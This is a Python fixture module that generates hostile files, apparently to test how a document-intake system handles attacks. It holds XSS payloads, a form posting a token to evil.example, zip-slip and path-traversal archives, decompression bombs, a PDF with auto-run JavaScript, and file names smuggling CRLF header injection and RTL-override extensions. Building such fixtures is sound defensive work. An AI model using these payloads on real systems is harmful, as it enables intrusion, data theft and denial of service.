"""Files that mean harm, by name, each made here: what a desk may be sent by somebody who hates it."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

SCRIPT = "<script>document.title='taken over'</script>"
_KEPT = Path(__file__).parent.parent / "intake" / "hostile"


def _deep_html() -> bytes:
    return b"<div>" * 50_000 + b"Nobody was held." + b"</div>" * 50_000


def _page_that_leads_away() -> bytes:
    return (
        '<html><head><base href="https://evil.example/">'
        '<meta http-equiv="refresh" content="0;url=//evil.example">'
        f"<title>{SCRIPT}</title></head><body onload=alert(1)><form action=//evil.example><input name=token>"
        f"<button formaction=//evil.example>Send</button></form><iframe src=/me></iframe>{SCRIPT}"
        '<p><img src=x onerror=alert(1)>The ministry denied it.</p><a href="javascript:alert(1)">here</a>'
    ).encode()


def _drawing() -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{SCRIPT}</svg>'.encode()


def _zip_that_climbs() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in ("../../../../etc/cron.d/x", "/etc/passwd", "C:\\x", "a\0b", "word/document.xml"):
            archive.writestr(name, SCRIPT)
    return made.getvalue()


def _zip_bomb() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"0" * (64 << 20))
    return made.getvalue()


def _zip_of_very_many() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
        for number in range(20_000):
            archive.writestr(f"{number}", b"")
    return made.getvalue()


def _mail_of_many() -> bytes:
    head = b"From: a@example.org\r\nSubject: all of it\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
    kind = b"Content-Type: text/plain\r\nContent-Disposition: attachment"
    part = b"--b\r\n" + kind + b'; filename="../x\\n.txt"\r\n\r\nx\r\n'
    return head + part * 40 + b"--b--\r\n"


def _mailbox() -> bytes:
    return b"From a@example.org Sat Mar 14 10:00:00 2026\nSubject: one\n\nNobody was held.\n\n" * 1_000


def _mail_in_mail() -> bytes:
    inside = b"Subject: innermost\r\n\r\nNobody was held.\r\n"
    for number in range(60):
        mark = b"b%d" % number
        head = b"Subject: %d\r\nContent-Type: multipart/mixed; boundary=%s\r\n\r\n--%s\r\n" % (
            number,
            mark,
            mark,
        )
        inside = head + b"Content-Type: message/rfc822\r\n\r\n" + inside + b"\r\n--" + mark + b"--\r\n"
    return inside


def _pdf(*objects: bytes) -> bytes:
    body, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    ending = b"xref\n0 %d\n0000000000 65535 f \n%strailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF"
    return body + ending % (size, table, size, len(body))


def _pdf_that_unpacks_without_end() -> bytes:
    packed = zlib.compress(zlib.compress(b"q " * (32 << 20)))
    stream = b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n%s\nendstream" % (len(packed), packed)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>"
    return _pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", page, stream)


def _pdf_that_acts() -> bytes:
    script, way = b"<</S/JavaScript/JS(app.alert\\(1\\))>>", b"<</S/URI/URI(//evil.example)>>"
    action = b"<</Type/Catalog/Pages 2 0 R/OpenAction" + script + b"/AA<</O" + way + b">>>>"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 1e30 -1e30]>>"
    return _pdf(action, b"<</Type/Pages/Count 1/Kids[3 0 R]>>", page)


def _pdf_of_its_own_pages() -> bytes:
    return _pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 99999999/Kids[2 0 R 2 0 R]>>")


def _picture_of_a_great_many_pixels() -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        check = zlib.crc32(kind + content)
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", check)

    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    rows = zlib.compress(bytes(8 << 20))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def _page_and_archive() -> bytes:
    return b"GIF89a\x01\x00\x01\x00\x00\xff\x00;" + _page_that_leads_away() + _zip_that_climbs()


FILES: dict[str, bytes] = {
    **{path.name: path.read_bytes() for path in sorted(_KEPT.iterdir())},
    "deep.html": _deep_html(),
    "away.html": _page_that_leads_away(),
    "away.txt": _page_that_leads_away(),
    "acting.svg": _drawing(),
    "climbs.docx": _zip_that_climbs(),
    "climbs.zip": _zip_that_climbs(),
    "bomb.docx": _zip_bomb(),
    "many.docx": _zip_of_very_many(),
    "many.eml": _mail_of_many(),
    "box.mbox": _mailbox(),
    "nested.eml": _mail_in_mail(),
    "unpacks.pdf": _pdf_that_unpacks_without_end(),
    "acts.pdf": _pdf_that_acts(),
    "itself.pdf": _pdf_of_its_own_pages(),
    "wide.png": _picture_of_a_great_many_pixels(),
    "two.gif": _page_and_archive(),
    "line.txt": b"Nobody was held. " * 20_000,
    "deep.json": b"[" * 200_000 + b"]" * 200_000,
    "a\u202egpj.exe": b"MZ\x90\x00",
    "a\r\nSet-Cookie: x=y\r\n\r\n.txt": b"Nobody was held.",
    "../../../etc/passwd": b"Nobody was held.",
    "..\\..\\x.html": _page_that_leads_away(),
    f"{SCRIPT}.txt": b"Nobody was held.",
    "é" * 2000 + ".txt": b"Nobody was held.",
    ".": b"Nobody was held.",
    "\"; filename*=UTF-8''x.html; x=\"": b"Nobody was held.",
}
